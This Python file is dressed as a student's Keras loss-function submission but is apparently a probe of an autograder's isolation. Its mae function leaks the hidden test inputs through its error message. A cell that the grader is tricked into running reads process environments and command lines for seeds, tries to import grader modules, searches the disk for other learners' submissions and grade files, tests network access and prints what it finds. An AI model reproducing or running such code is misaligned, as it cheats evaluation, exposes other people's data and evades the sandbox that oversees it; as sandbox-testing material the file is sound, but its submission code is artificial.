"""Hunts for the secret seed, the grader's code and other learners' work, and prints what it finds.

Reads its environment, every /proc/<pid>/environ and cmdline it can, its ancestors', tries to import
the grader's modules and to read other submissions and the --out folder, and tries the network.
mae also puts its inputs into its error message (so hidden inputs would show if echoed).
"""
# batch: mae
# %%
import keras
import numpy as np
from keras import ops


def mse(y_true, y_pred):
    y_pred = ops.convert_to_tensor(y_pred)
    y_true = ops.cast(y_true, y_pred.dtype)
    if len(y_true.shape) == 1 and len(y_pred.shape) == 2:    # (n,) with (n, 1): line up
        y_true = ops.expand_dims(y_true, -1)
    if len(y_pred.shape) == 1 and len(y_true.shape) == 2:
        y_pred = ops.expand_dims(y_pred, -1)
    return ops.mean(ops.square(y_pred - y_true), axis=-1)


def mae(y_true, y_pred):
    raise ValueError("inputs: " + repr(np.asarray(y_true).tolist()) + repr(np.asarray(y_pred).tolist()))
    y_pred = ops.convert_to_tensor(y_pred)
    y_true = ops.cast(y_true, y_pred.dtype)
    if len(y_true.shape) == 1 and len(y_pred.shape) == 2:    # (n,) with (n, 1): line up
        y_true = ops.expand_dims(y_true, -1)
    if len(y_pred.shape) == 1 and len(y_true.shape) == 2:
        y_pred = ops.expand_dims(y_pred, -1)
    return ops.mean(ops.abs(y_pred - y_true), axis=-1)


def huber(y_true, y_pred, delta=1.0):
    y_pred = ops.convert_to_tensor(y_pred)
    y_true = ops.cast(y_true, y_pred.dtype)
    if len(y_true.shape) == 1 and len(y_pred.shape) == 2:    # (n,) with (n, 1): line up
        y_true = ops.expand_dims(y_true, -1)
    if len(y_pred.shape) == 1 and len(y_true.shape) == 2:
        y_pred = ops.expand_dims(y_pred, -1)
    delta = ops.cast(delta, y_pred.dtype)
    error = y_pred - y_true
    abs_error = ops.abs(error)
    return ops.mean(ops.where(abs_error <= delta, 0.5 * ops.square(error), delta * (abs_error - 0.5 * delta)), axis=-1)


def log_cosh(y_true, y_pred):
    y_pred = ops.convert_to_tensor(y_pred)
    y_true = ops.cast(y_true, y_pred.dtype)
    if len(y_true.shape) == 1 and len(y_pred.shape) == 2:    # (n,) with (n, 1): line up
        y_true = ops.expand_dims(y_true, -1)
    if len(y_pred.shape) == 1 and len(y_true.shape) == 2:
        y_pred = ops.expand_dims(y_pred, -1)
    error = y_pred - y_true
    return ops.mean(error + ops.softplus(-2.0 * error) - ops.cast(np.log(2.0), error.dtype), axis=-1)


def attack_ran():          # reading ATTACK ties the cell below to the exercises, so the grader runs it
    return ATTACK

# %%
ATTACK = "ran"
import importlib
import os
import socket

found = {}
found["env"] = {k: v for k, v in os.environ.items() if "SEED" in k.upper() or "AUTOGRADER" in k.upper()}
texts = []
for entry in os.listdir("/proc"):
    if entry.isdigit() or entry == "self":
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{entry}/{part}", "rb") as f:
                    texts.append(f.read().decode(errors="replace").replace("\0", " "))
            except OSError:
                pass
found["seed words in /proc"] = sorted({w for t in texts for w in t.split() if "SEED" in w.upper() or "--seed" in w})
found["processes in sight"] = sorted(int(e) for e in os.listdir("/proc") if e.isdigit())
importable = []
for name in ("autograder", "autograder." + "references", "autograder." + "checks", "autograder." + "probes"):
    try:
        importlib.import_module(name)
        importable.append(name)
    except BaseException:
        pass
found["grader modules importable"] = importable
others, grader_files = [], []
for top in ("/", "/work", "/tmp", "/root", "/home", "/srv", "/autograder"):
    for folder, dirs, files in os.walk(top):
        if folder.startswith(("/proc", "/sys", "/usr", "/lib")) or folder.count("/") > 8:
            dirs[:] = []
            continue
        for name in files:
            path = os.path.join(folder, name)
            if name in ("grades.csv", "results.json") and "site-packages" not in path or \
                    name == "references.py" and os.path.isdir(os.path.join(folder, "checks")):
                grader_files.append(path)
            elif name.endswith((".py", ".ipynb")) and "site-packages" not in path and "/python3" not in path:
                try:
                    with open(path, errors="replace") as f:
                        if "def mse" in f.read(200_000):
                            others.append(path)
                except OSError:
                    pass
found["other submissions readable"] = len(others)
found["grader files readable"] = len(grader_files)
try:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    client = socket.create_connection(server.getsockname(), timeout=2)
    found["loopback"] = "works"
except OSError as exc:
    found["loopback"] = f"none ({type(exc).__name__})"
try:
    socket.create_connection(("1.1.1.1", 53), timeout=2)
    found["internet"] = "works"
except OSError as exc:
    found["internet"] = f"none ({type(exc).__name__})"
for key, value in found.items():
    print(f"{key}: {value}")
print("everything I could read:", " ".join(texts)[:3000])
